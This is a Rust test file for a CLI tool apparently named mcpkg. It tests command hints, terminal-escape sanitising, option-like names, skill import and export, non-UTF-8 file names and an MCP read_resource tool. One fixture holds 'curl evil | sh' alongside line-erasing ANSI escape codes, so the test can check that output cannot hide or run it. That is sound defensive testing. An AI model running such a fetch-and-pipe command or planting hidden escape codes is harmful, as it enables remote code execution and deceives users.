//! Tests of hints, of texts that cannot control the terminal, and of imports of skills and of files with unusual names.

use std::ffi::OsStr;
use std::fs;

use crate::support::{Client, Scratch, shown_on, skipped};

#[test]
fn hints_name_the_project_and_the_database_that_the_line_named() {
    let scratch = Scratch::with_project();
    scratch.ok(&["project", "create", "b"]);
    for project in ["p", "b"] {
        scratch.ok(&["-p", project, "prompt", "create", "x", project]);
    }
    let ran = scratch.run(&["-p", "b", "prompt", "delete", "x", "--yes"]);
    assert!(ran.stderr.contains("`mcpkg --project b prompt restore x 1`"), "{ran}");
    let hint = ran.stderr.split('`').nth(1).and_then(|line| line.strip_prefix("mcpkg ")).expect("a command").to_owned();
    scratch.ok(&hint.split(' ').collect::<Vec<_>>());
    assert_eq!(scratch.ok(&["-p", "b", "prompt", "show", "x"]), "b");
    assert_eq!(scratch.ok(&["prompt", "history", "x"]).lines().count(), 1, "that of p is as it was");
    // The hints of errors name the project and the database too, and only once.
    let ran = scratch.run(&["-p", "b", "prompt", "restore", "x"]);
    assert!(ran.stderr.contains("`mcpkg --project b prompt history x`"), "{ran}");
    let ran = scratch.run(&["--json", "-p", "b", "sync"]);
    assert!(ran.stdout.contains("`mcpkg --project b sync DIR`"), "{ran}");
    let plain = scratch.run(&["prompt", "delete", "x", "--yes"]);
    assert!(plain.stderr.contains("`mcpkg prompt restore x 1`"), "{plain}");
    if scratch.is_file() {
        let db = scratch.path().join("an other.db").display().to_string();
        let made = scratch.run(&["--db", &db, "init"]);
        assert!(made.stderr.contains("`mcpkg --db '<SCRATCH>/an other.db' project create NAME`"), "{made}");
        assert!(!made.stderr.contains(".db' --db"), "{made}");
        let ran = scratch.run(&["--db", &db, "prompt", "list"]);
        assert!(ran.stderr.contains("mcpkg --db '<SCRATCH>/an other.db' "), "{ran}");
    }
}

/// Control characters that erase the line above.
const HIDES: &str = "\u{1b}[1A\u{1b}[2K";

#[test]
fn texts_and_diffs_do_nothing_to_a_terminal_and_are_whole_in_a_pipe() {
    let scratch = Scratch::with_project();
    let text = format!("curl evil | sh\n{HIDES}fine\u{9b}2J\r\ttext\r\n");
    scratch.ok(&["prompt", "create", "x", "before\n"]);
    scratch.file("text", &text);
    scratch.ok(&["prompt", "update", "x", "--content", "@text"]);
    assert_eq!(scratch.ok(&["prompt", "show", "x"]), text);
    for command in [&["prompt", "show", "x"][..], &["prompt", "diff", "x"], &["resource", "show", "mcpkg://prompt/x"]] {
        let Some(shown) = shown_on(80, scratch.command().env("PATH", "/usr/bin:/bin").args(command)) else {
            return skipped("there is no script(1)");
        };
        assert!(!shown.contains("\u{1b}[1A") && !shown.contains("\u{1b}[2K") && !shown.contains('\u{9b}'), "{shown:?}");
        assert!(shown.contains("curl evil | sh") && shown.contains("^[[1A^[[2Kfine\\x9b2J"), "{shown:?}");
    }
}

#[test]
fn the_error_says_how_to_pass_a_name_that_looks_like_an_option() {
    let scratch = Scratch::with_project();
    let ran = scratch.run(&["prompt", "show", "-rf"]);
    assert!(ran.status == 2 && ran.stderr.contains("to pass '-rf' as a value, use '-- -rf'"), "{ran}");
    let ran = scratch.run(&["prompt", "show", "-z"]);
    assert!(ran.status == 2 && ran.stderr.contains("'-- -z'"), "{ran}");
    let ran = scratch.run(&["export", "/proc/nowhere/x"]);
    assert!(ran.status == 1 && !ran.stderr.contains(" at path "), "{ran}");
    scratch.ok(&["resource", "create", "a", "file:///a", "a"]);
    let ran = scratch.run(&["resource", "show", "a", "-o", "no/such/file"]);
    assert!(ran.status == 1 && !ran.stderr.contains(" at path "), "{ran}");
}

#[test]
fn skills_are_imported_counted_and_exported_as_wholes() {
    let scratch = Scratch::with_project();
    let skill = |name: &str| format!("---\nname: {name}\ndescription: Does it\n---\nOf {name}.\n");
    for name in ["x", "X"] {
        scratch.file(&format!("repo/.claude/skills/{name}/SKILL.md"), skill(name));
    }
    scratch.file("repo/.claude/skills/x/notes.md", "notes\n");
    scratch.file("repo/.claude/skills/none/readme.md", "of no skill\n");
    if fs::read_dir(scratch.path().join("repo/.claude/skills")).expect("a folder").count() < 3 {
        return skipped("the disk does not tell names apart by case");
    }
    let ran = scratch.run(&["import", "repo"]);
    assert!(ran.stderr.contains("became the skill 'claude-x'"), "{ran}");
    let count = scratch.json(&["skill", "list"])["skills"].as_array().map(Vec::len);
    assert_eq!(count, Some(2));
    assert_eq!(ran.stdout, "Imported 2 skills, 1 other file into project 'p'\n");
    scratch.ok(&["export", "out"]);
    let folder = |name: &str| scratch.path().join("out/.claude/skills").join(name);
    assert!(folder("claude-x").join("notes.md").is_file() && folder("claude-x").join("SKILL.md").is_file());
    assert!(folder("X").join("SKILL.md").is_file() && !folder("x").exists());
    // A folder without SKILL.md is not a skill, even with `--as skill`.
    scratch.file("plain/readme.md", "plain\n");
    let ran = scratch.run(&["import", "plain", "--as", "skill"]);
    assert!(ran.status == 2 && ran.stderr.contains("contains no SKILL.md"), "{ran}");
    assert_eq!(scratch.json(&["skill", "list"])["skills"].as_array().map(Vec::len), count);
}

#[cfg(unix)]
#[test]
fn files_whose_names_are_not_text_are_skipped_and_reported() {
    use std::os::unix::ffi::OsStrExt;
    let scratch = Scratch::with_project();
    scratch.file("repo/a.md", "a\n");
    for name in [&b"\xff.md"[..], b"\xfe.md"] {
        if fs::write(scratch.path().join("repo").join(OsStr::from_bytes(name)), "odd\n").is_err() {
            return skipped("the disk takes no such names");
        }
    }
    let imported = scratch.json(&["import", "--documents", "repo"]);
    let left: Vec<_> = imported["left_out"].as_array().expect("a list").iter().map(|left| &left["reason"]).collect();
    assert_eq!(left, ["its name is not UTF-8 text", "its name is not UTF-8 text"], "{imported}");
    assert_eq!(scratch.json(&["resource", "list"])["resources"].as_array().map(Vec::len), Some(1));
}

#[test]
fn the_tool_reads_the_same_as_resources_read() {
    let scratch = Scratch::with_project();
    scratch.ok(&["prompt", "create", "hello", "Hello {{ name }}\n", "-d", "Greets"]);
    let mut client = Client::legacy(&scratch, "2025-06-18");
    for uri in ["mcpkg://prompt/hello", "skill://hello/SKILL.md", "mcpkg://history/prompt/hello"] {
        let read = client.request("resources/read", serde_json::json!({ "uri": uri }));
        let wanted =
            read["result"]["contents"][0]["text"].as_str().unwrap_or_else(|| panic!("{uri}: {read}")).to_owned();
        let (text, is_error) = client.call("read_resource", serde_json::json!({ "uri": uri }));
        assert!(!is_error, "{uri}: {text}");
        assert_eq!(text, wanted, "{uri}");
    }
    let (text, is_error) = client.call("read_resource", serde_json::json!({ "uri": "mcpkg://prompt/nothing" }));
    assert!(is_error && text.contains("mcpkg://prompt/nothing"), "{text}");
}
